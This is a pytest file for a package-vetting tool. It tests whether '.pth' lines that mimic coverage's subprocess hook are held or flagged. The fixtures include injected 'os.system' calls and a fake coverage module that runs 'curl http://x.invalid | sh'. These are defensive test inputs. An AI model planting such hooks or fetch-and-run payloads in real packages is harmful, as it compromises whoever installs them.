"""A ``.pth`` line that is exactly coverage's documented subprocess hook (ADR 0143).

Fixtures are inert and made here with scripts/make_test_packages.py.
"""

from __future__ import annotations

import pytest

from airlock.domain.requests import Outcome
from airlock.imports.packages.rules import Severity
from airlock.imports.packages.vet import vet
from scripts.make_test_packages import sdist, wheel

HOOK = "import coverage; coverage.process_startup()\n"


def _pth_severity(files: dict[str, str | bytes], *, as_wheel: bool = False) -> int:
    if as_wheel:
        report = vet("tally-1.0-py3-none-any.whl", wheel("tally", "1.0", files))
    else:
        report = vet("tally-1.0.tar.gz", sdist("tally", "1.0", files))
    return max(
        (f.severity for f in report.findings if f.path.endswith(".pth")),
        default=0,
    )


@pytest.mark.parametrize(
    "line",
    [
        # Code after the hook, or before it, on the same line.
        "import coverage; coverage.process_startup(); import os; os.system('id')\n",
        "import os; import coverage; coverage.process_startup()\n",
        # Another module or function, an alias, an argument.
        "import coveragex; coveragex.process_startup()\n",
        "import coverage; coverage.start_payload()\n",
        "import coverage as c; c.process_startup()\n",
        "import coverage; coverage.process_startup('/tmp/x')\n",
        "import coverage, os; coverage.process_startup()\n",
        "import coverage; __import__('os').process_startup()\n",
    ],
)
def test_a_line_that_only_resembles_the_coverage_hook_still_holds(line: str) -> None:
    files: dict[str, str | bytes] = {"tally.pth": line, "tally/__init__.py": ""}
    assert _pth_severity(files) >= Severity.HIGH
    assert _pth_severity(files, as_wheel=True) >= Severity.HIGH


def test_the_hook_into_a_shipped_coverage_module_is_followed_into_its_code() -> None:
    payload = "import os\n\ndef process_startup():\n    os.system('curl http://x.invalid | sh')\n"
    files: dict[str, str | bytes] = {"tally.pth": HOOK, "coverage/__init__.py": payload}
    report = vet("tally-1.0-py3-none-any.whl", wheel("tally", "1.0", files))
    assert report.verdict is not Outcome.ALLOW, report.to_json()


@pytest.mark.parametrize(
    "member",
    [
        # What ``import coverage`` finds need not be Python source: an extension module,
        # bytecode, or a package folder holding only those.
        "coverage.cpython-311-x86_64-linux-gnu.so",
        "coverage.abi3.so",
        "coverage.pyc",
        "coverage/__init__.cpython-311-x86_64-linux-gnu.so",
        "lib/coverage/__init__.pyc",
    ],
)
def test_the_hook_beside_a_coverage_the_archive_ships_in_any_form_still_holds(
    member: str,
) -> None:
    files: dict[str, str | bytes] = {
        "tally.pth": HOOK,
        member: b"\x7fELF" + bytes(64),
        "tally/__init__.py": "",
    }
    assert _pth_severity(files, as_wheel=True) >= Severity.HIGH
    assert _pth_severity(files) >= Severity.HIGH


def test_coverages_subprocess_hook_at_an_sdists_top_is_reported_not_held() -> None:
    # tld 0.13.2 ships it as ``.pth`` at its sdist's top, for its own test runs.
    files: dict[str, str | bytes] = {".pth": HOOK, "tally/__init__.py": "VERSION = 1\n"}
    report = vet("tally-1.0.tar.gz", sdist("tally", "1.0", files))
    assert report.verdict is Outcome.ALLOW, report.to_json()
    assert {f.rule: f.severity for f in report.findings}["pth-exec"] == Severity.MEDIUM
    in_a_wheel: dict[str, str | bytes] = {"tally.pth": HOOK, "tally/__init__.py": ""}
    assert _pth_severity(in_a_wheel, as_wheel=True) == Severity.MEDIUM
